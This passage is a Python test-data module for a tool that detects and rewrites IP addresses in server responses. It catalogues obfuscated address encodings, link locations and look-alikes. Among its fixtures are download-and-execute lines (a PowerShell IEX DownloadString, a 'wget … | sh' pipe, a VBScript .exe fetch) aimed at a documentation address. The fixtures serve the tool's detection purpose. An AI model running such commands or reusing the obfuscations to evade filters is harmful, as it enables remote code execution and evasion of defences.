"""Where bare IP addresses stand in what servers send, and how they are written;
and what only looks like one.

In a text «192.0.2.7» is an address that is to be steered, «0xC0.519=192-0-2-7»
one whose steering name does not follow from its digits. All else stays.
"""
import re

ZONE = "ip.test"
ANY = "192-0-2-7"  # what a mark without a name of its own stands for
MARK = re.compile("«([^»=]*)(?:=([^»]*))?»")

HTML, XHTML = "text/html; charset=utf-8", "application/xhtml+xml"
XML, SVG, CSS = "text/xml", "image/svg+xml", "text/css"
JS, JSON = "application/javascript", "application/json"
PAC = "application/x-ns-proxy-autoconfig"
HLS, PLS = "application/vnd.apple.mpegurl", "audio/x-scpls"


def as_sent(text):
    return MARK.sub(r"\1", text)


def as_steered(text):
    return MARK.sub(lambda m: f"{m[2] or ANY}.{ZONE}", text)


# Hosts that browsers take for an address (WHATWG URL 3.5), and their names.
FORMS = [
    ("192.0.2.7", ANY), ("192.0.519", ANY), ("192.519", ANY),
    ("3221225991", ANY),
    # octal
    ("0300.0.2.7", ANY), ("0300.00.02.07", ANY), ("000300.000.002.007", ANY),
    ("030000001007", ANY), ("0300.01007", ANY), ("0000030000001007", ANY),
    # hexadecimal
    ("0xC0.0x0.0x2.0x7", ANY), ("0xc0.0x00.0x02.0x07", ANY),
    ("0XC0.0X0.0X2.0X7", ANY), ("0xC0000207", ANY), ("0xc0.0x207", ANY),
    ("0x00C0.0x0.0x207", ANY), ("0x00000000c0000207", ANY),
    # mixed
    ("0xC0.0.2.7", ANY), ("192.0x0.2.07", ANY), ("0300.0x207", ANY),
    ("192.0x207", ANY), ("192.0.0x207", ANY), ("192.0.01007", ANY),
    ("0xC0.00.519", ANY), ("192.0.2.0x7", ANY),
    # at the edges
    ("0.0.0.0", "0-0-0-0"), ("255.255.255.255", "255-255-255-255"),
    ("4294967295", "255-255-255-255"), ("0xffffffff", "255-255-255-255"),
    ("1", "0-0-0-1"), ("0", "0-0-0-0"), ("1.2", "1-0-0-2"),
    ("1.2.65535", "1-2-255-255"), ("1.16777215", "1-255-255-255"),
    ("127.1", "127-0-0-1"), ("0x7f.1", "127-0-0-1"),
    ("10.0.0.1", "10-0-0-1"),
    # percent encoding
    ("%31%39%32.0.2.7", ANY), ("192%2E0%2E2%2E7", ANY),
    ("192%2e0%2e2%2e7", ANY), ("1%392.0.2.7", ANY),
    ("%31%39%32%2e%30%2e%32%2e%37", ANY), ("%30xC0.0.2.7", ANY),
    ("0%78c0000207", ANY), ("%33221225991", ANY), ("0xC%30.519", ANY),
    # IPv6
    ("[2001:db8::7]", "2001-db8-0-0-0-0-0-7"),
    ("[2001:DB8::7]", "2001-db8-0-0-0-0-0-7"),
    ("[2001:0db8:0000:0000:0000:0000:0000:0007]", "2001-db8-0-0-0-0-0-7"),
    ("[2001:db8:0:0:0:0:0:7]", "2001-db8-0-0-0-0-0-7"),
    ("[1:2:3:4:5:6:7:8]", "1-2-3-4-5-6-7-8"),
    ("[1:2:3:4:5:6:7::]", "1-2-3-4-5-6-7-0"),
    ("[::2:3:4:5:6:7:8]", "0-2-3-4-5-6-7-8"),
    ("[1::8]", "1-0-0-0-0-0-0-8"), ("[::]", "0-0-0-0-0-0-0-0"),
    ("[::1]", "0-0-0-0-0-0-0-1"), ("[fe80::1]", "fe80-0-0-0-0-0-0-1"),
    ("[::ffff:192.0.2.7]", "0-0-0-0-0-ffff-c000-207"),
    ("[::FFFF:c000:0207]", "0-0-0-0-0-ffff-c000-207"),
    ("[::192.0.2.7]", "0-0-0-0-0-0-c000-207"),
    ("[64:ff9b::192.0.2.7]", "64-ff9b-0-0-0-0-c000-207"),
    ("[1:2:3:4:5:6:192.0.2.7]", "1-2-3-4-5-6-c000-207"),
]

# The same hidden in one kind of text: (type, before, host, behind).
HIDDEN = [
    # character references of HTML and XML
    (HTML, '<a href="http://', "192&#46;0&#46;2&#46;7", '/x">'),
    (HTML, '<a href="http://', "&#49;&#57;&#50;.0.2.7", '/x">'),
    (HTML, '<a href="http://', "&#x31;&#x39;&#x32;&#x2e;0.2.7", '/x">'),
    (HTML, '<a href="http://', "&#X31;92.0.2.7", '/x">'),
    (HTML, '<a href="http://', "&#0000049;92.0.2.7", '/x">'),
    (HTML, '<a href="http://', "192&period;0&period;2&period;7", '/x">'),
    (HTML, '<a href="http://', "&#48;xC0.519", '/x">'),
    (HTML, '<a href="http&#58;//', "192.0.2.7", '/x">'),
    (HTML, '<a href="http&#x3a;//', "192.0.2.7", '/x">'),
    (HTML, '<a href="http&colon;//', "192.0.2.7", '/x">'),
    (HTML, '<a href="http:&#47;&#47;', "192.0.2.7", '/x">'),
    (HTML, '<a href="http:&#x2F;&#x2f;', "192.0.2.7", '/x">'),
    (HTML, '<a href="http:&sol;&sol;', "192.0.2.7", '/x">'),
    (HTML, '<a href="&#104;&#116;&#116;&#112;&#58;&#47;&#47;', "192.0.2.7",
     '/x">'),
    (HTML, '<a href="&#104;&#116;&#116;&#112;&#58;&#47;&#47;',
     "&#49;&#57;&#50;&#46;&#48;&#46;&#50;&#46;&#55;", '&#47;x">'),
    (HTML, '<a href="&#47;&#47;', "192.0.2.7", '/x">'),
    (XML, '<link href="http&#58;//', "192&#46;0.2.7", '/x"/>'),
    # escapes of JSON and scripts
    (JSON, r'{"u":"http:\/\/', "192.0.2.7", r'\/x"}'),
    (JSON, r'{"u":"\/\/', "192.0.2.7", r'\/x"}'),
    (JSON, r'{"u":"http:\u002f\u002f', "192.0.2.7", r'\u002fx"}'),
    (JSON, r'{"u":"http\u003A\u002F\u002F', "192.0.2.7", r'\u002Fx"}'),
    (JSON, '{"u":"http://', r"192\u002e0\u002e2\u002e7", '/x"}'),
    (JSON, '{"u":"http://', r"\u0031\u0039\u0032.0.2.7", '/x"}'),
    (JSON, r'{"u":"\u0068\u0074\u0074\u0070://', "192.0.2.7", '/x"}'),
    (JS, r'var u = "http:\/\/', "192.0.2.7", r'\/x";'),
    (JS, r'var u = "http:\x2f\x2f', "192.0.2.7", r'\x2fx";'),
    (JS, r'var u = "http\x3A\x2F\x2F', r"192\x2e0\x2E2\x2e7", '/x";'),
    (JS, 'var u = "http://', r"\x31\x39\x32.0.2.7", '/x";'),
    (JS, r'var u = "\x68\x74\x74\x70\x3a\x2f\x2f',
     r"\x31\x39\x32\x2e\x30\x2e\x32\x2e\x37", r'\x2f";'),
    (JS, r"var u = 'http:\u002f\u002f", r"192\u002e0.2.7", "/x';"),
    (JS, r"var u = 'http:\u{2f}\u{2f}", r"192\u{2e}0.2.7", "/x';"),
    (JS, r"var u = '\x2f\x2f", "192.0.2.7", "/x';"),
    (JS, "location = unescape('http%3A%2F%2F", "192.0.2.7", "%2Fx');"),
    (JS, "location = unescape('http%3a%2f%2f", "192%2e0%2e2%2e7",
     "%2fx');"),
    (HTML, r"<script>document.write('<img src=\"http:\/\/", "192.0.2.7",
     r"\/x\">')</script>"),
]

# How a link begins, and how it goes on: (before, behind) in an attribute.
AROUND = [
    ("http://", ""), ("http://", "/"), ("http://", ":8080/x"),
    ("http://", "./x"), ("http://", ".:8080/x"), # the root's dot stays
    ("http://", "?q"), ("http://", "#f"), ("http://", ":80"),
    ("https://", "/x"), ("HTTP://", "/x"), ("hTTp://", "/x"),
    ("ftp://", "/x"), ("ws://", "/x"), ("wss://", ":443/x"),
    ("rtsp://", "/x"), ("//", "/x"), ("//", ":8080/x"), ("//", ""),
    ("http://user@", "/x"), ("http://user:secret@", ":81/x"),
    ("http://www.example.com@", "/x"), ("//user@", "/x"),
    ("http://www.example.com:80@", "/x"), ("http://%75ser@", "/x"),
    (r"http:\\", r"\x"), (r"\\", r"\x"), (r"/\ "[:2], "/x"),
    (r"http:/\ "[:7], "/x"), ("view-source:http://", "/x"),
    (" http://", "/x"), ("http://", "/http://www.example.com/"),
    ("/out?to=http://", "/x"), ("/out?to=http%3A%2F%2F", "%2Fx"),
    ("javascript:location='http://", "/x'"),
    ("javascript:location=&quot;//", "/x&quot;"),
]

# A place for every kind of link.
PLACES = [
    # elements of HTML
    (HTML, '<a href="http://«192.0.&#10;2.7»/">x</a>'),
    (HTML, '<a href="http://«192.&Tab;0.2&#x0d;.7»/">x</a>'),
    (HTML, '<p title="http://«192.0.2.7»&#10;and more">x</p>'),
    (HTML, "<a href='http://«192.0.2.7»/x'>x</a>"),
    (HTML, "<a href=http://«192.0.2.7»/x>x</a>"),
    (HTML, "<a href=//«192.0.2.7»/x>x</a>"),
    (HTML, "<a href=http://«192.0.2.7»>x</a>"),
    (HTML, '<a\nhref =\n"http://«192.0.2.7»/x">x</a>'),
    (HTML, '<A HREF="HTTP://«192.0.2.7»/X">x</A>'),
    (HTML, '<a ping="http://«192.0.2.7»/p" href="/x">x</a>'),
    (HTML, '<area shape="rect" href="http://«192.0.2.7»/x">'),
    (HTML, '<base href="http://«192.0.2.7»/">'),
    (HTML, '<link rel="stylesheet" href="http://«192.0.2.7»/a.css">'),
    (HTML, '<link rel=preconnect href=//«192.0.2.7»>'),
    (HTML, '<img src="http://«192.0.2.7»/a.gif" width=1 height=1>'),
    (HTML, '<img srcset="http://«192.0.2.7»/1.png 1x, '
           'http://«198.51.100.9=198-51-100-9»/2.png 2x">'),
    (HTML, '<img srcset="//«192.0.2.7»/1.png 1x,//«192.0.2.7»/2.png 2x">'),
    (HTML, '<img srcset="/1.png 1x, //«192.0.2.7»/2.png 2x">'),
    (HTML, '<img lowsrc="http://«192.0.2.7»/a" longdesc="http://«192.0.2.7»">'),
    (HTML, '<source srcset="//«192.0.2.7»/a.webp" type="image/webp">'),
    (HTML, '<iframe src="http://«192.0.2.7»/in.php?id=1&amp;u=2"></iframe>'),
    (HTML, '<iframe srcdoc="&lt;img src=&quot;http://«192.0.2.7»/x&quot;&gt;">'),
    (HTML, '<frame src="http://«192.0.2.7»/x">'),
    (HTML, '<script src="http://«192.0.2.7»/a.js"></script>'),
    (HTML, '<script src=//«192.0.2.7»></script>'),
    (HTML, '<form action="http://«192.0.2.7»/post" method="post">'),
    (HTML, '<button formaction="http://«192.0.2.7»/x">'),
    (HTML, '<input type="image" src="http://«192.0.2.7»/x">'),
    (HTML, '<object data="http://«192.0.2.7»/a.swf"></object>'),
    (HTML, '<object codebase="http://«192.0.2.7»/a.cab#1,2,3,4"></object>'),
    (HTML, '<param name="movie" value="http://«192.0.2.7»/a.swf">'),
    (HTML, '<embed src="http://«192.0.2.7»/a.swf">'),
    (HTML, '<applet codebase="http://«192.0.2.7»/" archive="a.jar">'),
    (HTML, '<video poster="http://«192.0.2.7»/p" src="http://«192.0.2.7»/v">'),
    (HTML, '<audio src="http://«192.0.2.7»/a.mp3"></audio>'),
    (HTML, '<track src="http://«192.0.2.7»/a.vtt">'),
    (HTML, '<body background="http://«192.0.2.7»/a.gif">'),
    (HTML, '<table background="//«192.0.2.7»/a.gif">'),
    (HTML, '<blockquote cite="http://«192.0.2.7»/x">'),
    (HTML, '<html manifest="http://«192.0.2.7»/m.appcache">'),
    (HTML, '<div data-url="http://«192.0.2.7»/x"></div>'),
    (HTML, "<div data-x='{\"u\":\"//«192.0.2.7»/x\"}'></div>"),
    (HTML, '<meta http-equiv="refresh" content="0;url=http://«192.0.2.7»/x">'),
    (HTML, '<META HTTP-EQUIV=Refresh CONTENT="0; URL=\'//«192.0.2.7»/x\'">'),
    (HTML, '<meta http-equiv=refresh content=0;url=//«192.0.2.7»/x>'),
    (HTML, '<meta http-equiv="refresh" content="0; //«192.0.2.7»/x">'),
    (HTML, '<meta property="og:image" content="http://«192.0.2.7»/x">'),
    (HTML, '<meta http-equiv="Content-Security-Policy" content="default-src '
           "'self' http://«192.0.2.7» https://«192.0.2.7»:8443\">"),
    (HTML, '<p style="background: url(http://«192.0.2.7»/a.gif)">'),
    (HTML, "<p style=\"background: url('//«192.0.2.7»/a.gif')\">"),
    (HTML, '<p style="background:url(&quot;//«192.0.2.7»/a.gif&quot;)">'),
    (HTML, '<p style="background:url(&#39;//«192.0.2.7»/a.gif&#39;)">'),
    (HTML, '<style>@import "http://«192.0.2.7»/a.css";</style>'),
    (HTML, '<p onclick="location=\'http://«192.0.2.7»/x\'">'),
    (HTML, '<p onclick="location=&quot;http://«192.0.2.7»/x&quot;">'),
    (HTML, '<p onclick="location=&#34;//«192.0.2.7»/x&#34;">'),
    (HTML, '<p onclick="location=&apos;//«192.0.2.7»/x&apos;">'),
    (HTML, '<script>location.href = "http://«192.0.2.7»/x";</script>'),
    (HTML, "<script>window.location.replace('http://«192.0.2.7»/x')</script>"),
    (HTML, "<script>var s='//«192.0.2.7»/a.js'</script>"),
    (HTML, '<script>document.write("<iframe src=http://«192.0.2.7»/x>")'
           '</script>'),
    (HTML, "<script>document.write('<iframe src=\\'http://«192.0.2.7»/x\\'>')"
           "</script>"),
    (HTML, '<!--[if IE]><script src="http://«192.0.2.7»/ie.js"></script>'
           '<![endif]-->'),
    (HTML, '<svg><image xlink:href="http://«192.0.2.7»/a.png"/></svg>'),
    (HTML, '<p>http://«192.0.2.7»/x</p>'),
    (HTML, '<p>See http://«192.0.2.7».</p>'),
    (HTML, '<p>(http://«192.0.2.7»), then</p>'),
    (HTML, '<a href="http://«192.0.2.7»/a">http://«192.0.2.7»/a</a> and '
           '<a href="http://«198.51.100.9=198-51-100-9»/">b</a>'),
    ("text/html; charset=windows-1251", '<a href="http://«192.0.2.7»/x">'),
    ("TEXT/HTML", '<a href="http://«192.0.2.7»/x">'),
    (XHTML, '<a href="http://«192.0.2.7»/x" xmlns="http://a.example/"/>'),
    ("application/hta", '<script src="http://«192.0.2.7»/a.vbs"></script>'),
    # XML and its kin
    (XML, "<a><u>http://«192.0.2.7»/x</u></a>"),
    (XML, "<a><![CDATA[http://«192.0.2.7»/x]]></a>"),
    (XML, '<?xml-stylesheet href="//«192.0.2.7»/a.xsl" type="text/xsl"?><a/>'),
    (XML, '<!DOCTYPE a SYSTEM "http://«192.0.2.7»/a.dtd"><a/>'),
    (XML, '<!DOCTYPE a [<!ENTITY x SYSTEM "http://«192.0.2.7»/x">]><a>&x;</a>'),
    ("application/xml", '<x:include href="http://«192.0.2.7»/x"/>'),
    ("application/rss+xml", "<link>http://«192.0.2.7»/feed</link>"),
    ("application/atom+xml", '<link href="http://«192.0.2.7»/feed"/>'),
    ("application/x-java-jnlp-file", '<jnlp codebase="http://«192.0.2.7»/">'),
    ("application/xspf+xml", "<location>http://«192.0.2.7»/a.mp3</location>"),
    ("application/dash+xml", "<BaseURL>http://«192.0.2.7»/v/</BaseURL>"),
    ("application/dash+xml", '<SegmentURL media="//«192.0.2.7»/1.m4s"/>'),
    (SVG, '<svg><image xlink:href="http://«192.0.2.7»/a.png"/></svg>'),
    (SVG, '<svg><use href="//«192.0.2.7»/a.svg#x"/></svg>'),
    (SVG, '<svg><script>location="http://«192.0.2.7»/"</script></svg>'),
    (SVG, '<svg><path style="fill:url(http://«192.0.2.7»/a.svg#f)"/></svg>'),
    # style sheets
    (CSS, "a { background: url(http://«192.0.2.7»/a.gif) }"),
    (CSS, 'a { background: url( "//«192.0.2.7»/a.gif" ) }'),
    (CSS, "a { background: url(//«192.0.2.7»/a.gif) }"),
    (CSS, "a { background: url( //«192.0.2.7»/a.gif ) }"),
    (CSS, '@import "http://«192.0.2.7»/a.css";'),
    (CSS, "@import '//«192.0.2.7»/a.css' screen;"),
    (CSS, "@import url(http://«192.0.2.7»/a.css);"),
    (CSS, "@font-face { src: url('http://«192.0.2.7»/a.woff') }"),
    (CSS, "a { behavior: url(http://«192.0.2.7»/a.htc) }"),
    # scripts and JSON
    (JS, "fetch(`http://«192.0.2.7»/x`)"),
    (JS, "fetch(`//«192.0.2.7»/x`)"),
    (JS, "new WebSocket('ws://«192.0.2.7»:9000/s')"),
    (JS, "importScripts('//«192.0.2.7»/a.js')"),
    (JS, 'var a="http://«192.0.2.7»/"+id+"/x";'),
    (JS, "//# sourceMappingURL=http://«192.0.2.7»/a.map"),
    ("text/javascript", "import x from 'http://«192.0.2.7»/x.mjs'"),
    ("application/x-javascript", 'top.location="http://«192.0.2.7»/"'),
    ("application/ecmascript", 'top.location="http://«192.0.2.7»/"'),
    ("text/vbscript", 'x.Open "GET", "http://«192.0.2.7»/a.exe", False'),
    ("text/x-component", '<public:attach url="http://«192.0.2.7»/x"/>'),
    ("text/plain", "IEX (New-Object Net.WebClient).DownloadString("
                   "'http://«192.0.2.7»/a.ps1')"),
    ("text/plain", "wget -q http://«192.0.2.7»/x -O- | sh"),
    ("text/cache-manifest", "CACHE MANIFEST\nhttp://«192.0.2.7»/a.js\n"),
    (JSON, '{"url": "http://«192.0.2.7»/x", "ip": "192.0.2.7"}'),
    (JSON, '["//«192.0.2.7»:8080/x"]'),
    ("application/json; charset=utf-8", '{"u":"https://«192.0.2.7»/x"}'),
    ("text/json", '{"u":"http://«192.0.2.7»/x"}'),
    ("application/manifest+json", '{"start_url":"http://«192.0.2.7»/"}'),
    ("application/ld+json", '{"@id":"http://«192.0.2.7»/"}'),
    ("text/event-stream", "data: http://«192.0.2.7»/x\n\n"),
    # playlists
    (HLS, "#EXTM3U\n#EXTINF:9,\nhttp://«192.0.2.7»/1.ts\n"),
    (HLS, "#EXTM3U\n#EXTINF:9,\n//«192.0.2.7»/1.ts\n"),
    (HLS, '#EXTM3U\n#EXT-X-KEY:METHOD=AES-128,URI="http://«192.0.2.7»/k"\n'),
    ("application/x-mpegURL", "#EXTM3U\r\nhttp://«192.0.2.7»:8080/1.ts\r\n"),
    ("audio/mpegurl", "http://«192.0.2.7»/a.mp3\n"),
    ("audio/x-mpegurl", "http://«192.0.2.7»/a.mp3\n"),
    (PLS, "[playlist]\nFile1=http://«192.0.2.7»:8000/\nLength1=-1\n"),
    ("video/x-ms-asf", '<asx><entry><ref href="http://«192.0.2.7»/v"/>'),
    # proxy auto-configuration
    (PAC, 'return "PROXY «192.0.2.7»:8080";'),
    (PAC, 'return "PROXY «192.0.2.7»:8080; SOCKS '
          '«198.51.100.9=198-51-100-9»:1080; DIRECT";'),
    (PAC, "return 'SOCKS5 «192.0.2.7»:1080';"),
    (PAC, "return 'HTTPS «192.0.2.7»:443';"),
    (PAC, 'return "proxy  «192.0.2.7»";'),
    (PAC, 'return "PROXY «[2001:db8::7]=2001-db8-0-0-0-0-0-7»:8080";'),
    (PAC, 'if (isInNet(host, "10.0.0.0", "255.0.0.0")) return "DIRECT";\n'
          'return "PROXY «192.0.2.7»:8080";'),
    (PAC, 'if (shExpMatch(url, "http://«192.0.2.7»/*")) return "DIRECT";'),
    ("text/plain", 'return "PROXY «192.0.2.7»:8080";', "/wpad.dat"),
    ("application/octet-stream", 'return "PROXY «192.0.2.7»:80";', "/a.pac"),
    # origins
    (JS, 'document.cookie = "a=1; path=/; domain=«192.0.2.7»";'),
    (HTML, "<meta http-equiv=Set-Cookie content='a=1;domain=«192.0.2.7»; x'>"),
    (XML, '<cross-domain-policy><allow-access-from domain="«192.0.2.7»"/>',
     "/crossdomain.xml"),
]

# (name, value) of a field.
FIELDS = [
    ("Location", "http://«192.0.2.7»/x"), ("location", "//«192.0.2.7»/x"),
    ("LOCATION", "HTTP://«192.0.2.7»"), ("Location", "https://«192.0.2.7»:8/"),
    ("Location", "http://«0xC0.519»/x"), ("Location", "http://«3221225991»"),
    ("Location", "http://user@«192.0.2.7»/"), ("Location", r"\\«192.0.2.7»\x"),
    ("Location", "http://«[2001:db8::7]=2001-db8-0-0-0-0-0-7»:8080/x"),
    ("Location", "http://«192.0.2.7»/?u=http://«192.0.2.7»/"),
    ("Location", "http://www.example.com/?u=http://«192.0.2.7»/"),
    ("Location", "http://%31%39%32.0.2.7/".replace("%31%39%32.0.2.7",
                                                   "«%31%39%32.0.2.7»")),
    ("Refresh", "0;url=http://«192.0.2.7»/x"), ("Refresh", "5; //«192.0.2.7»/"),
    ("Refresh", '1; URL="//«192.0.2.7»:81/x"'),
    ("Link", '<http://«192.0.2.7»/a.css>; rel="preload"; as="style"'),
    ("Link", "<//«192.0.2.7»>; rel=preconnect, "
             "<https://«192.0.2.7»/b>; rel=next"),
    ("Content-Location", "http://«192.0.2.7»/x"),
    ("SourceMap", "http://«192.0.2.7»/a.map"),
    ("X-SourceMap", "//«192.0.2.7»/a.map"),
    ("Access-Control-Allow-Origin", "http://«192.0.2.7»:8080"),
    ("Timing-Allow-Origin", "http://«192.0.2.7», https://«192.0.2.7»"),
    ("X-Frame-Options", "ALLOW-FROM http://«192.0.2.7»/"),
    ("Permissions-Policy", 'geolocation=(self "http://«192.0.2.7»")'),
    ("Set-Cookie", "a=1; Path=/; Domain=«192.0.2.7»; HttpOnly"),
    ("set-cookie", "a=1;domain=«192.0.2.7»"),
    ("Content-Security-Policy", "default-src 'self' http://«192.0.2.7»"),
    ("Content-Security-Policy", "script-src «192.0.2.7» https://«192.0.2.7»:8 "
                                "www.example.com; img-src «192.0.2.7»:*"),
    ("Content-Security-Policy", "frame-ancestors http://«192.0.2.7»;report-uri "
                                "http://«192.0.2.7»/r"),
    ("Content-Security-Policy-Report-Only", "script-src «192.0.2.7»/js/"),
]

# Texts of which no byte may change.
LOOK_ALIKES = [
    # numbers
    (HTML, "<p>Version 1.2.3.4 is out, 192.0.2.7 too.</p>"),
    (HTML, '<script src="/jquery-1.2.3.4.js?v=192.0.2.7"></script>'),
    (HTML, '<script src="/1.2.3.4/a.js"></script>'),
    (HTML, '<script src="http://cdn.example/1.2.3.4/a.js"></script>'),
    (HTML, '<meta name="generator" content="Made 4.3.2.1">'),
    (HTML, "<p>1.3.6.1.4.1.311.2 (OID), section 1.2.3</p>"),
    (HTML, "<p>192.0.2.7:8080 and 192.0.2.0/24 and [2001:db8::7]</p>"),
    (HTML, "<p>PROXY 192.0.2.7:8080</p>"),
    (HTML, '<object classid="clsid:0" codebase="a.cab#version=9,0,2,7">'),
    (HTML, '<a href="tel:192-0-2-7">192/0.2.7</a>'),
    (HTML, '<a href="mailto:a@192.0.2.7">x</a>'),
    (HTML, '<input pattern="[0-9]" value="192.0.2.7" data-ip="192.0.2.7">'),
    (HTML, '<a href="192.0.2.7">a file of that name</a>'),
    (HTML, '<a href="/192.0.2.7/x">x</a>'), (HTML, '<a href="./1.2.3.4">x</a>'),
    (HTML, '<a href="/a//192.0.2.7/x">x</a>'),
    (HTML, '<a href="http://www.example.com//192.0.2.7/x">x</a>'),
    (HTML, '<a href="/x?ip=192.0.2.7&amp;v=1.2.3.4">x</a>'),
    (HTML, '<a href="/x?host=192.0.2.7:8080">x</a>'),
    (HTML, '<a href="#192.0.2.7">x</a>'),
    # longer names
    (HTML, '<a href="http://192.0.2.7.example.com/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7.nip.io/x">x</a>'),
    (HTML, '<a href="http://192-0-2-7.example.com/x">x</a>'),
    (HTML, '<a href="http://www.192.0.2.7.example/x">x</a>'),
    (HTML, '<a href="http://a192.0.2.7a/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7a/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7-a/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7_/x">x</a>'),
    (HTML, '<a href="http://a-192.0.2.7.example/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7%61.example/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7&#46;example/x">x</a>'),
    (JSON, r'{"u":"http:\/\/192.0.2.7.example\/x"}'),
    (JS, r'var u="http://192.0.2.7\x2eexample/x";'),
    (HTML, '<a href="http://3com.example/">x</a> <a href="http://1st.example">'),
    (HTML, '<a href="http://0x.example/">x</a>'),
    (HTML, '<a href="http://123.example/">x</a>'),
    (HTML, '<a href="http://192-0-2-7.ip.test/x">x</a>'),
    # user information, ports
    (HTML, '<a href="http://192.0.2.7@www.example.com/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7:80@www.example.com/x">x</a>'),
    (HTML, '<a href="http://a:192.0.2.7@www.example.com/x">x</a>'),
    (HTML, '<a href="http://192.0.2.7%40@www.example.com/x">x</a>'),
    (HTML, '<a href="http://www.example.com:8080/x">x</a>'),
    (HTML, '<a href="http://localhost:8080/1">x</a>'),
    # no addresses for a browser
    (HTML, '<a href="http://256.0.2.7/">x</a>'),
    (HTML, '<a href="http://192.0.2.256/">x</a>'),
    (HTML, '<a href="http://192.0.2.7.1/">x</a>'),
    (HTML, '<a href="http://192.0.2..7/">x</a>'),
    (HTML, '<a href="http://192.0.65536/">x</a>'),
    (HTML, '<a href="http://192.16777216/">x</a>'),
    (HTML, '<a href="http://4294967296/">x</a>'),
    (HTML, '<a href="http://99999999999999999999/">x</a>'),
    (HTML, '<a href="http://0x100000000/">x</a>'),
    (HTML, '<a href="http://192.0.2.08/">x</a>'),
    (HTML, '<a href="http://0xC0.0xG/">x</a>'),
    (HTML, '<a href="http://192.0.2.7../">x</a>'),
    (HTML, '<a href="http://.192.0.2.7/">x</a>'),
    (HTML, '<a href="http://[2001:db8::7/">x</a>'),
    (HTML, '<a href="http://[2001:db8::7]8/">x</a>'),
    (HTML, '<a href="http://192.0.2.7*8@www.example/">x</a>'),
    (HTML, '<a href="http://192.0.2.7;a=1@www.example/">x</a>'),
    (HTML, '<a href="http://[2001:db8:7]/">x</a>'),
    (HTML, '<a href="http://[1::2::3]/">x</a>'),
    (HTML, '<a href="http://[1:2:3:4:5:6:7:8:9]/">x</a>'),
    (HTML, '<a href="http://[12345::1]/">x</a>'),
    (HTML, '<a href="http://[fe80::1%25eth0]/">x</a>'),
    (HTML, '<a href="http://[::192.0.2]/">x</a>'),
    (HTML, '<a href="http://[192.0.2.7]/">x</a>'),
    # scripts and the like
    (JS, "// 192.0.2.7 is the first, 1.2.3.4 the last"),
    (JS, "//192.0.2.7 is the first"), (JS, "a = 1; //12 more"),
    (JS, "a = 8 / 2.5; b = 4 //2\n"), (JS, "var ip = '192.0.2.7', n = 3221225991;"),
    (JS, "if (location.hostname == '192.0.2.7') go();"),
    (JS, "x = /http:\\/\\/[0-9.]+/.test(u)"), (JS, "v = '1.2.3.4'.split('.')"),
    (JS, r"u = /^<(\w+)\s*\/?>(?:<\/\1>|)$/"), (JS, r'x.replace(/\0.*/, "")'),
    (JS, r"""s.replace(/[\\/]+/g, '\\3' + c)"""), (JS, r'a = {"\x00": "\\0"}'),
    (JSON, r'{"pattern": "(0[1-9]|1[0-2])(\\3([12]\\d|0[1-9]))?"}'),
    (HTML, r"<p>ended by <code>\\0</code>, <code>\\17</code></p>"),
    (HTML, '<a href="http://www.example.com/?w=//801453">x</a>'),
    (JS, "host + '/192.0.2.7'"), (JS, "a = 0xC0000207; b = 1.5e10;"),
    (JS, "x = 'http://' + host + ':8080/'"),
    (JSON, '{"ip": "192.0.2.7", "version": "1.2.3.4", "n": 3221225991}'),
    (JSON, '{"net": "192.0.2.0/24", "v6": "2001:db8::7", "a": "[::1]:80"}'),
    (JSON, '{"oid": "1.3.6.1.4.1", "time": "12:34:56.7"}'),
    (CSS, "a { width: 1.2em; margin: 1.2 3.4; z-index: 3221225991 }"),
    (CSS, "/* 1.2.3.4 */ a { background: url(/1.2.3.4/a.gif) }"),
    (XML, '<a xmlns="http://www.example.org/1.2.3.4"><v>1.2.3.4</v></a>'),
    (XML, '<assemblyIdentity version="1.0.0.0"/>'),
    (SVG, '<svg><path d="M1.2.3.4 5.6.7.8"/></svg>'),
    (HLS, "#EXTM3U\n#EXT-X-VERSION:3\n#EXTINF:9.0.1.2,\n192.0.2.7/1.ts\n"),
    (PLS, "[playlist]\nTitle1=192.0.2.7\n"),
    (PAC, 'if (isInNet(host, "192.0.2.0", "255.255.255.0")) return "DIRECT";'),
    (PAC, 'if (isInNet(myIpAddress(), "192.0.2.7", "255.255.255.255"))'),
    (PAC, 'return "PROXY proxy.example:8080; PROXY 192.0.2.7.example:80";'),
    (PAC, 'if (dnsResolve(host) == "192.0.2.7") return "DIRECT";'),
    # what is no text, whatever it is sent as
    ("application/octet-stream", "http://192.0.2.7/x"),
    ("application/x-msdownload", "MZ http://192.0.2.7/x"),
    ("application/pdf", "%PDF-1.4 (http://192.0.2.7/x)"),
    ("application/zip", "PK http://192.0.2.7/x"),
    ("application/x-shockwave-flash", "FWS http://192.0.2.7/x"),
    ("application/java-archive", "PK http://192.0.2.7/x"),
    ("application/msword", "http://192.0.2.7/x"),
    ("image/png", "http://192.0.2.7/x"), ("video/mp4", "http://192.0.2.7/x"),
    ("font/woff2", "http://192.0.2.7/x"),
    (HTML, "MZ\x90\x00\x03\x00\x00\x00\x04\x00 http://192.0.2.7/x"),
    ("text/plain", "PK\x03\x04\x14\x00\x00\x00 http://192.0.2.7/x"),
    (HTML, "%PDF-1.4\n(http://192.0.2.7/x)"),
    ("text/css", "GIF89a\x01\x00\x01\x00 http://192.0.2.7/x"),
]

FIELD_LOOK_ALIKES = [
    ("Location", "/192.0.2.7/x"), ("Location", "192.0.2.7"),
    ("Location", "http://192.0.2.7.example.com/"),
    ("Location", "http://192.0.2.7@www.example.com/"),
    ("Location", "http://www.example.com/?ip=192.0.2.7"),
    ("Refresh", "7; url=/192.0.2.7"), ("Refresh", "192"),
    ("Link", "</1.2.3.4/a.css>; rel=preload"),
    ("Server", "Made/1.2.3.4"), ("X-Powered-By", "http://192.0.2.7/"),
    ("Via", "1.1 192.0.2.7"), ("ETag", '"192.0.2.7"'),
    ("Set-Cookie", "ip=192.0.2.7; Path=/"),
    ("Set-Cookie", "d=domain=192.0.2.7; Domain=example.com"),
    ("Access-Control-Allow-Origin", "*"),
    ("Content-Security-Policy", "default-src 'self' 'nonce-1234' a.example:80"),
    ("Content-Security-Policy", "script-src 'sha256-1/2.3' 192.0.2.7.example"),
]


def as_rows():
    """(type, text, end of the path) of every body that is to be steered."""
    for written, name in FORMS:
        yield HTML, f'<a href="http://«{written}={name}»/x">x</a>', ""
    for kind, before, written, behind in HIDDEN:
